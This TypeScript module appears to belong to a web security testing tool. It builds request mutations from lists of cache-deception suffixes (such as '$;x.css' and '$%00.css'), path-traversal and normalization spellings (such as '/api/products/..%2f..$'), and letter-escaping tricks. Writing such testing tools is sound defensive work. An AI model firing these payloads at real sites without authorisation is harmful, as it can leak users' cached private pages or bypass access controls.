import type { Attack } from './request-attacks';

/** What an attacker lets somebody visit whose answer is to be kept as if it were a file. `$` stands for the path. */
const DISGUISES = [
  '$/x.css',
  '$/.css',
  '$.css',
  '$;x.css',
  '$;/x.css',
  '$%3bx.css',
  '$%3Fx.css',
  '$%23x.css',
  '$%00.css',
  '$%0a.css',
  '$%20.css',
  '$%2fx.css',
  '$%2Fx.css',
  '$%252fx.css',
  '$%5cx.css',
  '$\\x.css',
  '$%c0%afx.css',
  '$%ef%bc%8fx.css',
  '$//x.css',
  '$/x/../../x.css',
  '$/%2e%2e/x.css',
  '$/assets/x.js',
  '$?/assets/x.css',
  '$?x.css',
];

/** Another spelling that somebody on the way takes for the path itself. */
const SPELLINGS = [
  '$/',
  '$//',
  '$/.',
  '$/./',
  '$/x/..',
  '$/..%2f',
  '$/%2e',
  '$/%2e%2e%2f',
  '$.',
  '$..',
  '$;',
  '$%20',
  '$%09',
  '$%0d%0a',
  '$%2f',
  '$%00',
  '$%',
  '$%zz',
  '/$',
  '//$',
  '/.$',
  '/./$',
  '/assets/..$',
  '/assets/%2e%2e$',
  '/assets/..%2f$',
  '/assets/..;$',
  '/assets/..\\$',
  '/private/..$',
  '/api/..$',
  '/api/products/..$',
  '/api/products/../..$',
  '/api/products/%2e%2e/%2e%2e$',
  '/api/products/..%2f..$',
  '/api/x/../$',
  '/api$',
];

const spelled = (pattern: string): Attack => ({
  name: pattern,
  of: (visit) => {
    const [path = '', query] = visit.target.split(/(\?.*)/s);
    const made = pattern.replace('$', () => path);
    // A signature would no longer be for the path, so whoever has one visits as it is.
    return {
      ...visit,
      target: `${made}${query === undefined ? '' : made.includes('?') ? query.replace('?', '&') : query}`,
    };
  },
});

/** One letter of the path written as an escape, or in the other case. */
const LETTERS: readonly Attack[] = [
  { name: 'an escape for the first letter', of: escaped(1) },
  { name: 'an escape for the last letter', of: escaped(-1) },
  { name: 'an escape for a slash', of: (visit) => ({ ...visit, target: visit.target.replace(/(.)\//, '$1%2F') }) },
  {
    name: 'the path in capitals',
    of: (visit) => ({ ...visit, target: visit.target.replace(/^[^?]*/, (path) => path.toUpperCase()) }),
  },
  {
    name: 'one capital',
    of: (visit) => ({
      ...visit,
      target: visit.target.replace(/[a-z](?=[^/?]*(\?|$))/, (letter) => letter.toUpperCase()),
    }),
  },
];

function escaped(place: number): Attack['of'] {
  return (visit) => {
    const [path = '', query = ''] = visit.target.split(/(?=\?)/);
    const index = place < 0 ? path.length + place : place;
    const letter = `%${path.charCodeAt(index).toString(16)}`;
    return { ...visit, target: `${path.slice(0, index)}${letter}${path.slice(index + 1)}${query}` };
  };
}

export const pathAttacks: readonly Attack[] = [...[...DISGUISES, ...SPELLINGS].map(spelled), ...LETTERS];
